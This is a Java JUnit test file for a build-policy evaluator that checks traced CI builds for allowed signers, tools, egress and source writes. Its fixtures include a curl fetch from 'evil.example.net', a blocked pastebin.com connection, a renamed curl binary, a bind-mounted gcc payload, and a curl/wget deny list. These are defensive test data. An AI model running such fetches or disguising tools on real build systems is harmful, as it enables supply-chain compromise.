package dev.plumbline.policy;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.plumbline.record.BuildRecord;
import dev.plumbline.trace.TraceEvent;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Each rule: one case that passes and one that fails, with the evidence named. */
class PolicyEvaluatorTest {
  static final Clock NOW = Clock.fixed(Instant.parse("2026-11-21T10:00:00Z"), ZoneOffset.UTC);
  static final String HEADER = "apiVersion: plumbline.dev/v1\nkind: BuildPolicy\n";
  static final Evidence.CiContext CI = new Evidence.CiContext(
      "github", "octo/hello", "refs/heads/main", "abc", "octo/hello/.github/workflows/ci.yml@refs/heads/main", "github-hosted");

  static Policy policy(String body) throws PolicyException {
    return PolicyLoader.parse(HEADER + body, "p.yaml", false);
  }

  static Evaluation eval(String body, Evidence evidence) throws PolicyException {
    return new PolicyEvaluator(NOW).evaluate(policy(body), evidence);
  }

  static Evidence ev(BuildRecord r) {
    return new Evidence(r, CI, null, null, "test", true);
  }

  static Evaluation.RuleResult rule(Evaluation e, String rule) {
    return e.rules().stream().filter(r -> r.rule().equals(rule)).findFirst().orElseThrow(() -> new AssertionError("no rule " + rule + " in " + e));
  }

  static void passes(Evaluation e, String rule) {
    assertTrue(rule(e, rule).passed(), rule + " should pass: " + rule(e, rule).violations());
  }

  static Evaluation.Violation fails(Evaluation e, String rule) {
    List<Evaluation.Violation> v = rule(e, rule).violations();
    assertFalse(v.isEmpty(), rule + " should fail");
    assertFalse(e.passed());
    return v.get(0);
  }

  @Test
  void signerByKeyFingerprint() throws Exception {
    String fp = "sha256:" + "ab".repeat(32);
    String body = "signer:\n  keyFingerprints: [\"" + fp + "\"]\n";
    BuildRecord r = TestRecords.buildA().build();
    passes(eval(body, new Evidence(r, CI, new Evidence.SignerIdentity(fp, null, null), null, "t", true)), "signer");
    Evaluation.Violation v = fails(eval(body, new Evidence(r, CI, new Evidence.SignerIdentity("sha256:" + "cd".repeat(32), null, null), null, "t", true)), "signer");
    assertTrue(v.evidence().contains("cd".repeat(32)), v.toString());
    assertEquals("no verified signer", fails(eval(body, ev(r)), "signer").message());
  }

  @Test
  void signerKeyless() throws Exception {
    String id = "https://github.com/octo/hello/.github/workflows/ci.yml@refs/heads/main";
    String issuer = "https://token.actions.githubusercontent.com";
    String exact = "signer:\n  identity: " + id + "\n  issuer: " + issuer + "\n";
    String regexp = "signer:\n  identityRegexp: 'https://github\\.com/octo/.*'\n  issuer: " + issuer + "\n";
    BuildRecord r = TestRecords.buildA().build();
    Evidence good = new Evidence(r, CI, new Evidence.SignerIdentity(null, id, issuer), null, "t", true);
    passes(eval(exact, good), "signer");
    passes(eval(regexp, good), "signer");
    Evidence otherRepo = new Evidence(r, CI, new Evidence.SignerIdentity(null, id.replace("octo", "mallory"), issuer), null, "t", true);
    assertTrue(fails(eval(exact, otherRepo), "signer").evidence().contains("mallory"));
    fails(eval(regexp, otherRepo), "signer");
    Evidence otherIssuer = new Evidence(r, CI, new Evidence.SignerIdentity(null, id, "https://accounts.example.com"), null, "t", true);
    fails(eval(exact, otherIssuer), "signer");
  }

  @Test
  void requireCompleteIsOnByDefault() throws Exception {
    passes(eval("", ev(TestRecords.buildA().build())), "trace.requireComplete");
    TestRecords.Builder b = TestRecords.buildA();
    b.completeness = new BuildRecord.Completeness(false, List.of("io_uring used by pid 7"));
    Evaluation.Violation v = fails(eval("", ev(b.build())), "trace.requireComplete");
    assertEquals("io_uring used by pid 7", v.evidence());
    assertTrue(eval("trace:\n  requireComplete: false\n", ev(b.build())).passed());
  }

  @Test
  void requireEgressBlock() throws Exception {
    String body = "trace:\n  requireEgressBlock: true\n";
    TestRecords.Builder b = TestRecords.buildA();
    assertEquals("egress mode audit", fails(eval(body, ev(b.build())), "trace.requireEgressBlock").evidence());
    b.egressMode = "block";
    passes(eval(body, ev(b.build())), "trace.requireEgressBlock");
  }

  @Test
  void noBlockedAttempts() throws Exception {
    String body = "trace:\n  noBlockedAttempts: true\n";
    passes(eval(body, ev(TestRecords.buildA().build())), "trace.noBlockedAttempts");
    TestRecords.Builder b = TestRecords.buildA();
    b.connect("pastebin.com", "198.51.100.7", 443, "tcp", "blocked", "104 sh");
    Evaluation.Violation v = fails(eval(body, ev(b.build())), "trace.noBlockedAttempts");
    assertEquals("pastebin.com:443 (198.51.100.7:443/tcp) by 104 sh", v.evidence());
  }

  @Test
  void noSourceWrites() throws Exception {
    String body = "trace:\n  noSourceWrites: true\n";
    passes(eval(body, ev(TestRecords.buildA().build())), "trace.noSourceWrites");
    TestRecords.Builder b = TestRecords.buildA();
    b.write("src/main.c", true, "104 sh", "truncate", "write");
    Evaluation.Violation v = fails(eval(body, ev(b.build())), "trace.noSourceWrites");
    assertEquals("src/main.c (truncate, write) by 104 sh", v.evidence());
    passes(eval(body + "  allowedSourceWrites: ['src/*.c']\n", ev(b.build())), "trace.noSourceWrites");
  }

  @Test
  void toolsAllowed() throws Exception {
    String body = "tools:\n  allowed:\n    - path: /usr/bin/make\n    - path: '/usr/bin/x86_64-linux-gnu-*'\n    - path: /usr/bin/dash\n      sha256: ['" + TestRecords.SH + "']\n";
    passes(eval(body, ev(TestRecords.buildA().build())), "tools.allowed");
    Evaluation.Violation v = fails(eval(body, ev(TestRecords.buildB().build())), "tools.allowed");
    assertEquals("a tool not in the allowlist ran", v.message());
    assertEquals("/usr/bin/curl sha256:" + TestRecords.CURL + " run by pid 105 (curl -sS https://evil.example.net/x)", v.evidence());
    // same path, other digest
    TestRecords.Builder b = TestRecords.buildA();
    b.tool("/usr/bin/dash", TestRecords.CURL, 106, 100, "2026-11-20T10:00:03Z", "2026-11-20T10:00:03Z", "sh");
    Evaluation.Violation d = fails(eval(body, ev(b.build())), "tools.allowed");
    assertEquals("a tool ran with a digest the policy does not allow", d.message());
    assertTrue(d.evidence().startsWith("/usr/bin/dash sha256:" + TestRecords.CURL), d.evidence());
  }

  /**
   * A tool the tracer could only name in the build's own root or mount namespace (a payload
   * bind-mounted over /usr/bin/gcc there) carries the mark: no absolute path or glob of one allows it.
   */
  @Test
  void aToolNamedInTheBuildsOwnViewMatchesNoAbsolutePath() throws Exception {
    TestRecords.Builder b = TestRecords.buildA();
    b.tool(TraceEvent.Exec.BUILD_VIEW + "/usr/bin/gcc", TestRecords.CC, 106, 100, "2026-11-20T10:00:03Z",
        "2026-11-20T10:00:03Z", "gcc", "-c", "main.c");
    for (String allowed : List.of("/usr/bin/gcc", "'/usr/bin/*'", "'/usr/**'", "'/**'")) {
      String body = "tools:\n  allowed:\n    - path: " + allowed + "\n    - path: '/usr/bin/*'\n    - path: '/bin/*'\n";
      Evaluation.Violation v = fails(eval(body, ev(b.build())), "tools.allowed");
      assertTrue(v.evidence().startsWith("(build view)/usr/bin/gcc sha256:" + TestRecords.CC), allowed + ": " + v.evidence());
    }
    // allowed only when a policy names the build's view on purpose
    passes(eval("tools:\n  allowed:\n    - path: '(build view)/usr/bin/gcc'\n    - path: '/usr/bin/*'\n    - path: '/bin/*'\n",
        ev(b.build())), "tools.allowed");
  }

  @Test
  void toolsForbidden() throws Exception {
    String byPath = "tools:\n  forbidden:\n    - path: '/usr/bin/{curl,wget}'\n";
    passes(eval(byPath, ev(TestRecords.buildA().build())), "tools.forbidden");
    assertTrue(fails(eval(byPath, ev(TestRecords.buildB().build())), "tools.forbidden").evidence().startsWith("/usr/bin/curl "));
    // a renamed curl is caught by its digest
    String byDigest = "tools:\n  forbidden:\n    - sha256: ['sha256:" + TestRecords.CURL + "']\n";
    TestRecords.Builder b = TestRecords.buildA();
    b.tool("/tmp/innocent", TestRecords.CURL, 107, 104, "2026-11-20T10:00:03Z", "2026-11-20T10:00:03Z", "innocent");
    assertTrue(fails(eval(byDigest, ev(b.build())), "tools.forbidden").evidence().startsWith("/tmp/innocent sha256:" + TestRecords.CURL));
    passes(eval(byDigest, ev(TestRecords.buildA().build())), "tools.forbidden");
  }

  @Test
  void egressAllowed() throws Exception {
    String body = "egress:\n  allowed: ['*.debian.org:443']\n";
    passes(eval(body, ev(TestRecords.buildA().build())), "egress.allowed");
    Evaluation.Violation v = fails(eval(body, ev(TestRecords.buildB().build())), "egress.allowed");
    assertEquals("evil.example.net:443 (203.0.113.9:443/tcp) by 105 curl", v.evidence());
    // the port matters
    fails(eval("egress:\n  allowed: ['*.debian.org:80']\n", ev(TestRecords.buildA().build())), "egress.allowed");
    // CIDRs match by address
    passes(eval("egress:\n  allowed: ['151.101.0.0/16:443']\n", ev(TestRecords.buildA().build())), "egress.allowed");
    // loopback (the resolver at 127.0.0.53) is allowed unless said otherwise
    Evaluation.Violation lo = fails(eval("egress:\n  allowLoopback: false\n  allowed: ['*.debian.org:443']\n", ev(TestRecords.buildA().build())), "egress.allowed");
    assertEquals("127.0.0.53:53/udp by 104 sh", lo.evidence());
    // a blocked attempt never left the host: it is the noBlockedAttempts rule's business
    TestRecords.Builder b = TestRecords.buildA();
    b.connect("pastebin.com", "198.51.100.7", 443, "tcp", "blocked", "104 sh");
    passes(eval(body, ev(b.build())), "egress.allowed");
  }

  @Test
  void theUnspecifiedAddressIsLoopbackAsInTheGate() throws Exception {
    // Linux connects 0.0.0.0 and :: to this host; the gate (net.Addresses.isLoopback) always said so,
    // the policy now agrees instead of calling a local service an external destination
    TestRecords.Builder b = TestRecords.buildA();
    b.connect(null, "0.0.0.0", 8080, "tcp", "allowed", "104 sh");
    b.connect(null, "::", 8081, "tcp", "allowed", "104 sh");
    passes(eval("egress:\n  allowed: ['*.debian.org:443']\n", ev(b.build())), "egress.allowed");
    Evaluation.Violation v = fails(eval("egress:\n  allowLoopback: false\n  allowed: ['*.debian.org:443', '127.0.0.53:53']\n", ev(b.build())), "egress.allowed");
    assertEquals("0.0.0.0:8080/tcp by 104 sh", v.evidence());
  }

  @Test
  void forbiddenUnixSockets() throws Exception {
    String body = "egress:\n  forbiddenUnixSockets: ['/var/run/docker.sock', '/run/docker.sock']\n";
    passes(eval(body, ev(TestRecords.buildA().build())), "egress.forbiddenUnixSockets");
    TestRecords.Builder b = TestRecords.buildA();
    b.unix("/var/run/docker.sock", "audited", "110 docker");
    assertEquals("unix:/var/run/docker.sock by 110 docker", fails(eval(body, ev(b.build())), "egress.forbiddenUnixSockets").evidence());
  }

  @Test
  void ciContext() throws Exception {
    String body = "ci:\n  repository: Octo/Hello\n  ref: 'refs/heads/*'\n  workflowRef: 'octo/hello/.github/workflows/*@refs/heads/main'\n  runnerEnvironment: github-hosted\n";
    BuildRecord r = TestRecords.buildA().build();
    Evaluation ok = eval(body, ev(r));
    for (String rule : List.of("ci.repository", "ci.ref", "ci.workflowRef", "ci.runnerEnvironment")) {
      passes(ok, rule);
    }
    Evidence.CiContext fork = new Evidence.CiContext("github", "mallory/hello", "refs/pull/7/merge", "abc", "mallory/hello/.github/workflows/ci.yml@refs/pull/7/merge", "self-hosted");
    Evaluation bad = eval(body, new Evidence(r, fork, null, null, "t", true));
    assertEquals("repository mallory/hello", fails(bad, "ci.repository").evidence());
    assertEquals("ref refs/pull/7/merge", fails(bad, "ci.ref").evidence());
    fails(bad, "ci.workflowRef");
    assertEquals("runnerEnvironment self-hosted", fails(bad, "ci.runnerEnvironment").evidence());
    // no CI context at all fails closed
    assertEquals("no CI context in the evidence", fails(eval(body, Evidence.ofRecord(r, "t")), "ci.repository").message());
  }

  @Test
  void maxAge() throws Exception {
    BuildRecord r = TestRecords.buildA().build(); // finished 2026-11-20T10:00:04Z, a day before NOW
    passes(eval("maxAge: 2d\n", ev(r)), "maxAge");
    Evaluation.Violation v = fails(eval("maxAge: 12h\n", ev(r)), "maxAge");
    assertEquals("made 2026-11-20T10:00:04Z, 23h 59m ago", v.evidence());
    // a trusted signing time wins over the record's own clock
    Evidence signedNow = new Evidence(r, CI, null, Instant.parse("2026-11-21T09:00:00Z"), "t", true);
    passes(eval("maxAge: 12h\n", signedNow), "maxAge");
    Evidence future = new Evidence(r, CI, null, Instant.parse("2026-11-22T09:00:00Z"), "t", true);
    assertEquals("the attestation is dated in the future", fails(eval("maxAge: 12h\n", future), "maxAge").message());
  }

  @Test
  void everyRuleIsEvaluatedNotJustTheFirst() throws Exception {
    String body = "trace:\n  requireEgressBlock: true\ntools:\n  forbidden: [{path: /usr/bin/curl}]\negress:\n  allowed: ['deb.debian.org:443']\n";
    Evaluation e = eval(body, ev(TestRecords.buildB().build()));
    assertEquals(List.of("trace.requireEgressBlock", "tools.forbidden", "egress.allowed"),
        e.violations().stream().map(Evaluation.Violation::rule).toList());
  }
}
